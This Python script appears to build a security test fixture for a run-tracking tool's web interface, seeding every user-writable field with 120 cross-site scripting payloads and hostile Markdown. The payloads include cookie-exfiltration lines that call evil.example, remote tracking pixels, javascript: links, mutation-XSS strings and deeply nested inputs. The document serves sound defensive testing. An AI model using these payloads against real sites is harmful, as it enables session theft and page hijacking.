"""
Fill a data folder with 120 attempts to run a script in a reader's browser: ``python hostile.py DIR``.

Every field that somebody else can write holds each of them: names, tags, keys, config, notes, output, facts, captions,
labels, cells, paths, figures. Each would call ``alert``, set ``window.pwned`` or leave the page.
"""

from __future__ import annotations

import io
import itertools
import json
import sys
import time
from pathlib import Path

import numpy as np

import treering as tr
from treering.ids import new_life_id, run_key
from treering.runlog import records
from treering.runlog.writer import Writer
from treering.sdk.blobs import Blobs

SCRIPTS = [
    "alert(1)",
    "window.pwned=1",
    "location='https://evil.example/'",
    "fetch('https://evil.example/'+document.cookie)",
]
SHAPES = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><a xlink:href="javascript:{}"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<iframe src=\"javascript:{}\"></iframe>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">",
    '<a href="javascript:{}">click</a>',
    '<a href=" &#106;avascript:{}">click</a>',
    "[click](javascript:{})",
    "![x](x\" onerror=\"{})",
    "<math><mtext><table><mglyph><style><img src onerror={}></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "\"><script>{}</script>",
    "'-{}-'",
    "</textarea><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
]  # fmt: skip
PAYLOADS = [shape.format(script) for script, shape in itertools.product(SCRIPTS, SHAPES)]
ANSI = "\x1b]8;;javascript:{0}\x1b\\link\x1b]8;;\x1b\\ \x1b[31m{0}\x1b[0m"

# What is dangerous as Markdown in particular: links, remote pictures, markup that changes its meaning when it is read twice.
_MARKDOWN = [
    "![tracking](https://evil.example/pixel.png)",
    "![tracking][1]\n\n[1]: https://evil.example/pixel.png",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y.png)}</style>",
    "<div style='background:url(https://evil.example/z.png)'>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)",
    "[e](java\tscript:alert(1)) [f](\x01javascript:alert(1)) [g](javascript&colon;alert(1)) <javascript:alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math></p><style><!--</style><img src onerror=alert(1)>--></style></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<div id=cookie name=getElementById><img name=body><form id=__treering>",
    "```html\n<script>alert(1)</script>\n```",
    "| " + " | ".join("<img src=x onerror=alert(1)>" for _ in range(200)) + " |\n|" + "-|" * 200 + "\n",
    "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/pixel.png}$",
    "$\\htmlClass{x}{y}$ $\\htmlStyle{position:fixed}{y}$ $\\htmlData{a=b}{y}$ $\\htmlId{__treering}{y}$",
    "$\\text{<img src=x onerror=alert(1)>}$ $$<script>alert(1)</script>$$ $\\fcolorbox{red}{blue}{x}$ $\\pmb{x}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\kern-9999em\\text{over the page}$ "
    + "${" * 400
    + "x"
    + "}$" * 400,
    "> " * 500 + "deep",
    "* " * 300 + "deep",
]
MARKDOWN = "\n\n".join([*PAYLOADS, *_MARKDOWN])


def main(folder: str) -> None:
    """Write the runs: one for each attempt, and one that holds them all in what is logged."""
    assert len(PAYLOADS) == 120
    sys.stdout, sys.stderr = io.StringIO(), io.StringIO()  # what is printed is recorded, and seen by nobody
    for number, payload in enumerate(PAYLOADS):
        write_run(Path(folder), number, payload)
    with tr.init(project="loaded", entity="acme", id="all", name="all", notes=MARKDOWN, dir=folder) as run:
        run.config.update(dict(zip(PAYLOADS, PAYLOADS, strict=True)))
        fill(run)
        log_artifacts(run)
    register(folder)
    write_reports(folder)


def write_reports(folder: str) -> None:
    """Save a report, a frozen one, and comments that hold each attempt; their ids go into ``reports.txt``."""
    sets = {payload: {"filter": payload, "search": payload, "runs": [payload]} for payload in PAYLOADS[::4]}
    figure = {
        "panel": {"type": "line", "title": PAYLOADS[0], "settings": {"keys": PAYLOADS[:4]}},
        "caption": PAYLOADS[1],
    }
    strange = {"panel": {"type": PAYLOADS[2], "settings": {PAYLOADS[3]: PAYLOADS[3]}}, "runs": PAYLOADS[4]}
    formulas = " ".join(f"{{{{ mean({payload}) }}}}" for payload in PAYLOADS)
    blocks = [f"```treering\n{json.dumps(one)}\n```" for one in ({"runs": sets}, figure, strange)]
    wrong = f"```treering\n{PAYLOADS[5]}\n```"
    text = "\n\n".join([*blocks, wrong, formulas, MARKDOWN])
    with tr.Api(folder) as api:
        live = api.create_report("acme/loaded", PAYLOADS[0][:100], text, published=True)
        frozen = api.create_report("acme/loaded", PAYLOADS[1][:100], text, template=True)
        frozen.freeze()
        for kind, target in (("report", live.id), ("run", api.run("acme/loaded/all").key), ("panel", "loss")):
            words = [*PAYLOADS[::6], *_MARKDOWN]
            for n, words_of_one in enumerate(words):
                body = {"target": {"kind": kind, "id": target, "part": PAYLOADS[n]}, "text": words_of_one}
                api._connection.call("POST", "/projects/acme/loaded/comments", body)
    (Path(folder) / "reports.txt").write_text(f"{live.id} {frozen.id}")


def write_run(folder: Path, number: int, payload: str) -> None:
    """Write one small run, as a training on another machine would have."""
    run_id = f"h{number}"
    key = run_key("acme", "hostile", run_id)
    (folder / "runs" / key).mkdir(parents=True, exist_ok=True)
    meta = {"name": payload, "group": payload, "job_type": payload, "notes": payload, "tags": [payload[:64]]}
    life = {
        "run": {"entity": "acme", "project": "hostile", "id": run_id, "key": key},
        "life_id": new_life_id(),
        "writer": "",
        "process": {"host": payload, "pid": 1, "boot_id": "", "start_time": 0.0},
        "meta": {**meta, "command": payload, "python": payload, "os": payload, "cwd": payload, "program": payload},
    }
    log = Writer(folder / "runs" / key, life)
    now = time.time_ns()
    log.append(records.CONFIG, [now, {payload: payload, "text": payload, "nested": {payload: [payload]}}, "merge"])
    log.append(records.DEFINE, [now, {"name": payload, "step_metric": payload, "summary": [], "unit": payload}])
    row = {payload: number, f"train/{payload}": number, "loss": 1 / (number + 1), "text": payload}
    log.append(records.ROW, [0, now, row])
    end = {
        "state": "failed" if number % 10 == 0 else "finished",
        "exit_code": 1,
        "reason": payload,
        "traceback": f"T\n{payload}",
    }
    log.append(records.END, [now, end])
    log.close()


def fill(run: tr.Run) -> None:
    """Put the attempts into everything that a run can log."""
    for payload in PAYLOADS:
        print(payload)
        print(ANSI.format(payload), file=sys.stderr)
        run.summary[f"summary {payload}"] = payload
    facts = {
        "git": {"commit": "0" * 40, "branch": PAYLOADS[0], "remote": "javascript:alert(1)", "message": PAYLOADS[2],
                "dirty": True, "detached": False, "root": PAYLOADS[3], "submodules": [{"path": PAYLOADS[4], "commit": PAYLOADS[5]}]},
        "hardware": {"cpu": PAYLOADS[6], "gpus": [{"name": PAYLOADS[7], "memory_bytes": 1}]},
        "environment": dict(zip(PAYLOADS, PAYLOADS, strict=True)),
        "inputs": [{"name": payload, "digest": payload, "source": payload, "kind": payload} for payload in PAYLOADS],
        "hidden": [{"where": payload, "count": 1} for payload in PAYLOADS],
        "code": {"kind": "git", "root": PAYLOADS[8], "files": 1, "bytes": 1, "skipped": [{"path": p, "reason": p, "bytes": 1} for p in PAYLOADS]},
        **{payload: payload for payload in PAYLOADS[:20]},
    }  # fmt: skip
    run._record(records.FACTS, [time.time_ns(), facts])
    pixels = np.zeros((16, 16, 3), np.uint8)
    labels = dict(enumerate(PAYLOADS))
    box = {"minX": 0.1, "maxX": 0.9, "minY": 0.1, "maxY": 0.9}
    boxes = [{"position": box, "class_id": n, "box_caption": p, "scores": {p: 0.5}} for n, p in labels.items()]
    table = tr.Table(columns=PAYLOADS[:30], data=[PAYLOADS[n : n + 30] for n in range(0, 120, 30)])
    figure = {
        "data": [{"type": "bar", "x": PAYLOADS[:20], "y": list(range(20)), "name": PAYLOADS[2], "text": PAYLOADS[:20]}],
        "layout": {"title": {"text": PAYLOADS[2]}, "annotations": [{"text": PAYLOADS[18], "x": 0, "y": 0}]},
    }
    spec = {"mark": "bar", "title": PAYLOADS[2], "data": {"name": "table"}, "usermeta": {"embedOptions": {"loader": {"target": "_top"}}},
            "encoding": {"x": {"field": "k", "type": "nominal", "axis": {"labelExpr": "alert(1)"}}, "y": {"field": "v", "type": "quantitative"},
                         "href": {"value": "javascript:alert(1)"}, "tooltip": {"field": "k"}}}  # fmt: skip
    run.log(
        {
            "media/image": tr.Image(pixels, caption=PAYLOADS[2], boxes={PAYLOADS[4]: {"box_data": boxes, "class_labels": labels}}),
            "media/several": [tr.Image(pixels, caption=payload) for payload in PAYLOADS],
            "media/html": tr.Html("".join(PAYLOADS)),
            "media/table": table,
            "media/plotly": tr.Plotly(figure),
            "media/vega": tr.VegaLite(spec, tr.Table(columns=["k", "v"], data=[[p, n] for n, p in labels.items()])),
            "media/bar": tr.plot.bar(tr.Table(columns=["k", "v"], data=[[p, n] for n, p in labels.items()]), "k", "v", title=PAYLOADS[2]),
            "media/matrix": tr.plot.confusion_matrix(y_true=[0, 1, 2], preds=[0, 1, 1], class_names=PAYLOADS[:3], title=PAYLOADS[3]),
            "media/molecule": tr.Molecule("HETATM    1  O   <b>     1       0.0     0.0     0.1\nEND\n", caption=PAYLOADS[2], file_type="pdb"),
            "media/audio": tr.Audio(np.zeros(800, np.float32), sample_rate=8000, caption=PAYLOADS[3]),
            "media/histogram": tr.Histogram([1.0, 2.0, 3.0]),
            "media/text": "\n".join(PAYLOADS),
        }
    )  # fmt: skip
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "∕").replace("\\", "")
        content = json.dumps({"payload": payload}) + payload
        path = run_file(run, content.encode())
        run._record(records.FILE, [time.time_ns(), f"{number} {name}"[:900], *path, {"purpose": "saved"}])
        run._record(records.FILE, [time.time_ns(), f"code/{number} {name}"[:900], *path, {"purpose": "code"}])
    patch = "".join(
        f"diff --git a/{n}.py b/{n}.py\n--- a/{n}.py\n+++ b/{n}.py\n@@ -1 +1 @@ {p}\n-{p}\n+{p} {p}\n"
        for n, p in labels.items()
    )
    run._record(records.FILE, [time.time_ns(), "code.patch", *run_file(run, patch.encode()), {"purpose": "patch"}])
    tree = json.dumps([[f"{n} {p}", "100644", "0" * 40, 1] for n, p in labels.items()])
    run._record(records.FILE, [time.time_ns(), "code.tree.json", *run_file(run, tree.encode()), {"purpose": "tree"}])
    run._record(
        records.FILE, [time.time_ns(), "page.html", *run_file(run, "".join(PAYLOADS).encode()), {"purpose": "saved"}]
    )


def named(payload: str) -> str:
    """Return an attempt as something that a name may be."""
    return "".join("_" if letter in "/\\#?%:" else letter for letter in payload)[:100]


def log_artifacts(run: tr.Run) -> None:
    """Log two versions of an artifact of whose names, texts and files each is an attempt."""
    for version in range(2):
        artifact = tr.Artifact(named(PAYLOADS[2]), named(PAYLOADS[3]), description=MARKDOWN)
        artifact.metadata = {payload: f"{payload} {version}" for payload in PAYLOADS}
        for number, payload in enumerate(PAYLOADS):
            with artifact.new_file(f"{number} {named(payload)}") as file:
                file.write(f"{payload}\n{version}\n")
        artifact.add_reference("https://evil.example/<script>alert(1)</script>", checksum=False)
        aliases = [named(payload)[:60] for payload in PAYLOADS[2:8]]
        run.log_artifact(artifact, aliases=aliases, tags=[payload[:60] for payload in PAYLOADS[:8]]).wait(60)


def register(folder: str) -> None:
    """Register a model of it."""
    with tr.Api(folder) as api:
        model = api.create_model("acme/loaded", named(PAYLOADS[4]), description=MARKDOWN)
        artifact = api.artifact(f"acme/loaded/{named(PAYLOADS[2])}:v1")
        artifact.link(f"acme/{model.name}", note=PAYLOADS[2])
        model.refresh()
        model.promote(named(PAYLOADS[3])[:60], 1, note=PAYLOADS[2])


def run_file(run: tr.Run, content: bytes) -> tuple[str, int]:
    """Store bytes with the run; return hash and size."""
    blob = Blobs(Path(run.settings.dir) / "blobs").put(content)
    return blob.sha256, blob.size


if __name__ == "__main__":
    main(sys.argv[1])
